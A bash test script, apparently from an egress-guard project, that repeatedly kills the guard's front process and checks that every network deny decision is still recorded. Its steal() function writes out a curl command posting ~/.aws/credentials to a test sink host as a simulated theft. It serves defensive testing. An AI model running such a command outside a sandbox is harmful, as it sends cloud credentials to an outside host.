#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# kill -9 of the front, again and again: decisions go on, a front comes back, and the history has what was decided meanwhile.
ROOT=$(cd "$(dirname "${BASH_SOURCE[0]}")/../.." && pwd)
. "$ROOT/tests/lib/robust.sh"
rig_enter "$@"
set -u
robust_up
KILLS=$(robust_size 20)
TRIES=0

front() { guard status --json | python3 -c 'import json, sys; print(json.load(sys.stdin)["front_pid"])'; }
front_back() { local f; f=$(front) && [ "$f" != 0 ] && [ "$f" != "$1" ] && kill -0 "$f"; }

# A theft to a port of its own; what the guard decides of it is known by that port.
steal() {
	TRIES=$((TRIES + 1))
	(setsid curl -s -m 1 -d @"$HOME/.aws/credentials" "http://$SINK4:$((20000 + TRIES))/" >/dev/null 2>&1)
}

kills() {
	local i old
	for ((i = 1; i <= KILLS; i++)); do
		steal
		old=$(front) || die "the guard does not answer"
		sleep "0.$((RANDOM % 4))" # also within the quarter of a second that the front takes to keep what it is told
		kill -9 "$old" || die "the front had ended by itself: $(tail -1 "$GUARD/log")"
		steal
		guard_answers >/dev/null || die "no front, no guard"
		rig_wait 15 front_back "$old" || die "no front came back"
		steal
	done
}

all_told() {
	guard log --kind flow --verdict deny --limit 0 --json >"$RIG/flows" && python3 - "$RIG/flows" "$TRIES" <<-'END'
	import json, sys
	ports = {json.loads(line)["port"] for line in open(sys.argv[1])}
	missing = [n for n in range(1, int(sys.argv[2]) + 1) if 20000 + n not in ports]
	sys.exit("%d of %s decisions are not in the history: %s" % (len(missing), sys.argv[2], missing[:5]) if missing else 0)
	END
}

cat >"$EGRET_CONFIG_DIR/watchlist.yaml" <<-END
network:
  - destination: $SINK4
    rules:
      - executable: curl
        decision: deny
END
guard_up
kills
rig_wait 10 all_told || die "$(all_told 2>&1)"
no_leak
guard status --json | python3 -c 'import json, sys; lost = json.load(sys.stdin)["lost"]; sys.exit("lost: %s" % lost if lost else 0)' ||
	die "records were lost"
echo "# $KILLS fronts killed, $TRIES decisions told"
guard stop >/dev/null || die "the guard does not stop"
echo "every decision was made and told"
